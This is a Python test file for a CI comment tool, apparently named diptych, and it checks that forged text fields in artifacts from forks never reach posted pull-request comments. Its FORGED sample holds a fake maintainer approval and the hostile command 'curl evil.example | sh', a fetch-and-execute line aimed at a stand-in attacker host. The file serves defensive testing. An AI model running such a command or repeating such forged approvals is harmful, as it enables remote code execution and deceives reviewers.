"""An artifact from outside speaks with its numbers and names alone: each text field is forged, and none is heard."""

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from diptych import artifact
from diptych.cli import main
from diptych.errors import ArtifactError
from diptych.publish.ci_environment import from_outside
from diptych.publish.comment import comment
from diptych.publish.untrusted_artifact import NOTE, without_words
from examples_comparison import comparison, matrix, repeats
from examples_decision import decision

FORGED = "Approved by the maintainers: merge now! See https://evil.example and run `curl evil.example | sh` @everyone"
WORDS = ("Approved", "maintainers", "merge now", "evil.example", "curl", "@everyone", "https://", "```sh")
MADE = {"comparison": comparison, "decision": decision, "matrix": matrix, "repeats": repeats}


def texts(body: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the path of every text of an artifact, its keys among them."""
    if isinstance(body, str):
        yield path
    elif isinstance(body, dict):
        for key, value in body.items():
            yield from texts(value, (*path, key))
    elif isinstance(body, list):
        for number, value in enumerate(body[:2]):
            yield from texts(value, (*path, number))


def forged(body: Any, path: tuple[Any, ...], text: str = FORGED) -> Any:
    """Return a copy with one text replaced."""
    if not path:
        return text
    copy = dict(body) if isinstance(body, dict) else list(body)
    copy[path[0]] = forged(body[path[0]], path[1:], text)
    return copy


@pytest.mark.parametrize("kind", MADE)
def test_no_forged_field_is_heard(kind: str) -> None:
    body = json.loads(artifact.dumps(MADE[kind]()))
    heard, seen = {}, set()
    tried = 0
    for path in {tuple(map(str, path)): path for path in texts(body)}.values():
        if (field := tuple(part for part in path if isinstance(part, str))[-2:]) in seen:
            continue  # a field once, wherever its noun stands
        seen.add(field)
        try:
            read = artifact.loads(json.dumps(forged(body, path)))
        except ArtifactError:
            continue  # one of a few words: forging it is refused already
        tried += 1
        said = comment([read], untrusted=True, archive_url="https://ours.example").text
        said = said.replace("https://ours.example", "")
        if found := [word for word in WORDS if word in said]:
            heard[path] = found
        assert artifact.dumps(without_words(read))
    assert tried > 10
    assert heard == {}


NAMELIKE = (
    "APPROVED-MERGE-NOW",
    "This/PR/is/safe,merge/it",
    "1.0+approved.by.maintainers",
    "2026-11-30,merge-it",
    "Merge",
)
CODE = re.compile(r"(`+).+?\1|<code>.*?</code>", re.DOTALL)


@pytest.mark.parametrize("kind", MADE)
def test_what_looks_like_a_name_speaks_in_code_alone(kind: str) -> None:
    body = json.loads(artifact.dumps(MADE[kind]()))
    fields = {tuple(part for part in path if isinstance(part, str))[-2:]: path for path in texts(body)}
    for number, path in enumerate(fields.values()):
        text = NAMELIKE[number % len(NAMELIKE)]
        try:
            read = artifact.loads(json.dumps(forged(body, path, text)))
        except ArtifactError:
            continue  # one of a few words: forging it is refused already
        several = [read, comparison()] if number % 4 == 0 else [read]
        assert text not in CODE.sub("", comment(several, untrusted=True).text), path


def test_an_artifact_of_ours_keeps_its_dates_and_versions() -> None:
    said = comment([without_words(comparison())], untrusted=True).text
    made = comparison()
    assert made.a.harness_version
    assert f"{made.a.harness} {made.a.harness_version}" in said


def test_every_field_forged_at_once_is_not_heard_and_numbers_are(tmp_path: Path) -> None:
    body = json.loads(artifact.dumps(comparison()))
    for path in list(texts(body)):
        try:
            changed = forged(body, path)
            artifact.loads(json.dumps(changed))
            body = changed
        except ArtifactError:
            continue
    (tmp_path / "a.json").write_text(json.dumps(body))
    ran = CliRunner().invoke(main, ["comment", str(tmp_path / "a.json"), "--untrusted"])
    assert ran.exit_code == 0
    assert not [word for word in WORDS if word in ran.output]
    assert NOTE in ran.output
    assert "worse on 1, better on 1 of 4 tasks" in ran.output


def test_an_artifact_of_ours_keeps_its_names_and_scores() -> None:
    own, made = comparison(), without_words(comparison())
    assert [(row.task, row.a, row.b, row.status) for row in made.metrics] == [
        (row.task, row.a, row.b, row.status) for row in own.metrics
    ]
    assert made.verdict.kind == own.verdict.kind
    assert made.verdict.isolating_run is None


OURS = {"repo": {"full_name": "o/r"}}
EVENTS: dict[str, tuple[dict[str, Any], bool]] = {
    "a fork's second step": ({"workflow_run": {"head_repository": {"full_name": "x/r"}}}, True),
    "our own second step": ({"workflow_run": {"head_repository": {"full_name": "o/r"}}}, False),
    "a fork that is gone": ({"workflow_run": {"head_repository": None}}, True),
    "a fork's request": (
        {"pull_request": {"head": {"repo": {"full_name": "x/r"}}, "base": {"repo": {"full_name": "o/r"}}}},
        True,
    ),
    "our own request": (
        {"pull_request": {"head": {"repo": {"full_name": "o/r"}}, "base": {"repo": {"full_name": "o/r"}}}},
        False,
    ),
    "a push": ({}, False),
}


@pytest.mark.parametrize("kind", EVENTS)
def test_the_ci_tells_what_comes_from_outside(kind: str, tmp_path: Path) -> None:
    event, outside = EVENTS[kind]
    (tmp_path / "event.json").write_text(json.dumps({"repository": {"full_name": "o/r"}, **event}))
    environ = {"GITHUB_EVENT_PATH": str(tmp_path / "event.json"), "GITHUB_REPOSITORY": "o/r"}
    assert from_outside(environ) is outside


def test_gitlab_tells_what_comes_from_outside() -> None:
    own = {"GITLAB_CI": "true", "CI_MERGE_REQUEST_PROJECT_PATH": "o/r"}
    assert from_outside({**own, "CI_MERGE_REQUEST_SOURCE_PROJECT_PATH": "x/r"})
    assert not from_outside({**own, "CI_MERGE_REQUEST_SOURCE_PROJECT_PATH": "o/r"})
